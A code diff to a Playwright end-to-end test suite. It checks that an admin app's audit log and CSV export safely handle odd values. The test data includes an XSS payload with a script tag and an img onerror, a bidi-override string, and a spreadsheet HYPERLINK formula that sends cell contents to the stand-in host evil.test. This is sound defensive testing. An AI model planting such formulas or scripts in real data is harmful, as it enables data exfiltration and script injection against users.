@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
-import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import type { Page } from 'playwright-core';
 import type { JsonObject } from '#engine/definition/index.ts';
 import { openList, seen, until, type Journey } from './journey.ts';
@@ -10,6 +11,7 @@ import { apiOf } from './record-api.ts';
 const NAME = 'oddity/text';
 const SCRIPT = '<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">';
 const TURNED = 'مرحبا \u202eecruos';
+const FORMULA = '=HYPERLINK("http://evil.test?"&A1,"click")';
 const EMOJI = '👩‍👩‍👧‍👦🏳️‍🌈';
 const LINE = 'A line of text, 一行文字, with all that belongs to it.\n';
 /** Nine megabytes. */
@@ -20,6 +22,8 @@ const DEFINITION = {
   title: { 'zh-cn': '怪值', en: 'Oddities' },
   table: 'oddity_text',
   label: 'name',
+  audit: true,
+  export: true,
   fields: [
     { name: 'id', type: 'pk' },
     { name: 'name', type: 'string', title: SCRIPT, required: true },
@@ -136,6 +140,36 @@ export const oddValueJourneys: Journey[] = [
         assert.deepEqual(row?.data, values.data);
         assert.ok(!String(row?.body).includes('script') && String(row?.body).includes(EMOJI));
         assert.equal(await hacked(page), undefined);
+        await page.goto(`/admin/${NAME}`);
+        await page.getByRole('row', { name: EMOJI }).getByRole('button', { name: '查看详情' }).click();
+        await page.getByRole('tab', { name: '变更记录' }).click();
+        const told = page.getByRole('cell').getByText(String(values.note)).first();
+        await told.waitFor();
+        await page.getByRole('cell').getByText(`${SCRIPT} ${EMOJI}`).first().waitFor();
+        // What turns a text round ends with it.
+        assert.match(await told.evaluate((it) => getComputedStyle(it).unicodeBidi), /isolate|plaintext/);
+        assert.equal(await hacked(page), undefined);
+      }),
+  },
+  {
+    name: 'an exported list holds odd texts to the letter, and none that a spreadsheet would run',
+    walk: (walk) =>
+      withOddities(walk, async () => {
+        const { page } = walk;
+        const names = [FORMULA, `'${FORMULA}`, SCRIPT, TURNED, EMOJI, 'one\ntwo;=3,"4"', '-5.5'];
+        for (const name of names) await add(page, { name });
+        await page.goto(`/admin/${NAME}`);
+        await seen(page, FORMULA);
+        const given = page.waitForEvent('download');
+        await page.getByRole('button', { name: '导出' }).click();
+        const text = readFileSync(await (await given).path(), 'utf8');
+        const [heads = [], ...lines] = parse(text, { bom: true });
+        const cells = lines.map((line) => line[heads.indexOf(SCRIPT)] ?? '');
+        for (const name of names) {
+          const isRun = name.includes(FORMULA);
+          assert.ok(cells.includes(isRun ? `'${name}` : name), `${name} is not in ${cells.join('|')}`);
+        }
+        assert.ok(cells.every((cell) => !/^[=+@]/.test(cell)));
       }),
   },
 ];
